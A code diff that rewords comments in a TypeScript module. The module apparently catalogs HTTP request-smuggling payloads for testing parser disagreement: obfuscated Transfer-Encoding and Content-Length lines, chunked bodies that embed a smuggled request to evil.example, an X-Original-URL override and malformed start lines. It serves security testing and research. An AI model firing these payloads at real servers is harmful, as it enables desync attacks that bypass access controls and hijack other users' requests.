@@ -1,6 +1,6 @@
 /**
- * What is published of making two HTTP parsers disagree, in our own words. From each publication the idea is taken, not
- * its text; where a list has a name for a trick that name stands here.
+ * Published ways to make two HTTP parsers disagree. Each entry has the idea of a publication, not its text; if a list
+ * names a trick, that name is used here.
  *
  * - RFC 9112, sections 2.2, 3.2, 5.1, 5.2, 6.1, 6.3, 7.1 and 11.2: what a server must refuse or ignore
  * - Linhart, Klein, Heled, Orrin: HTTP Request Smuggling (2005)
@@ -15,7 +15,7 @@
  * - the parser of node: CVE-2022-32213, -32214, -32215, -35256, CVE-2023-30589, CVE-2024-22019, CVE-2024-27982
  */
 
-/** Field lines that say `chunked` to one parser and nothing, or something else, to another; each with its line end. */
+/** Field lines that mean `chunked` to one parser and nothing, or something else, to another; each with its line end. */
 export const CHUNKED_SPELLINGS: Readonly<Record<string, string>> = {
   vanilla: 'Transfer-Encoding: chunked\r\n',
   'lower case': 'transfer-encoding: chunked\r\n',
@@ -89,7 +89,7 @@ export const CHUNKED_SPELLINGS: Readonly<Record<string, string>> = {
   'as a TE field': 'TE: chunked\r\n',
 };
 
-/** Field lines for a body of `n` bytes, by ways to write the number. */
+/** Field lines for a body of `n` bytes, one per spelling of the number. */
 export const LENGTH_SPELLINGS: Readonly<Record<string, (n: number) => string>> = {
   vanilla: (n) => `Content-Length: ${n}\r\n`,
   nospace: (n) => `Content-Length:${n}\r\n`,
@@ -131,7 +131,7 @@ export const LENGTH_SPELLINGS: Readonly<Record<string, (n: number) => string>> =
   'named by Connection': (n) => `Connection: Content-Length\r\nContent-Length: ${n}\r\n`,
 };
 
-/** Other field lines that make a server wait, switch, close or go on where another one does not. */
+/** Other field lines that make one server wait, switch, close or continue, and another one not. */
 export const OTHER_LINES: Readonly<Record<string, string>> = {
   'Expect, vanilla': 'Expect: 100-continue\r\n',
   'Expect, obfuscated': 'Expect: y 100-continue\r\n',
@@ -152,7 +152,7 @@ export const OTHER_LINES: Readonly<Record<string, string>> = {
   'an override of the target': 'X-Original-URL: /smuggled\r\n',
 };
 
-/** Chunked bodies, each with what one parser takes for its end; `evil` is a request that stands in it. */
+/** Chunked bodies, each with bytes that one parser takes for its end; `evil` is a request inside it. */
 export const CHUNKED_BODIES: Readonly<Record<string, (evil: string) => string>> = {
   vanilla: (evil) => `0\r\n\r\n${evil}`,
   'evil in a chunk': (evil) => `${evil.length.toString(16)}\r\n${evil}\r\n0\r\n\r\n`,
@@ -187,7 +187,7 @@ export const CHUNKED_BODIES: Readonly<Record<string, (evil: string) => string>> 
   'cut off': () => '5\r\nhel',
 };
 
-/** Request lines that one server takes and another does not, or reads as another request. */
+/** Request lines that one server takes and another refuses, or reads as another request. */
 export const START_LINES: Readonly<Record<string, string>> = {
   vanilla: 'POST / HTTP/1.1\r\n',
   'an empty line before': '\r\nPOST / HTTP/1.1\r\n',
@@ -217,10 +217,10 @@ export const START_LINES: Readonly<Record<string, string>> = {
   'the preface of HTTP/2': 'PRI * HTTP/2.0\r\n',
 };
 
-/** A request that must not run: it only ever stands where a body is, or behind what is refused. */
+/** A request that must not run: it is always part of a body, or follows a refused message. */
 export const EVIL = 'GET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n';
 
-/** What Smuggler puts a byte into: each gap around and in the parts of a framing field. */
+/** The places where Smuggler inserts a byte: each gap around and within the parts of a framing field. */
 export function everyByte(field: 'Transfer-Encoding: chunked' | 'Content-Length: 5'): string[] {
   const colon = field.indexOf(':');
   const middle = colon + 4;
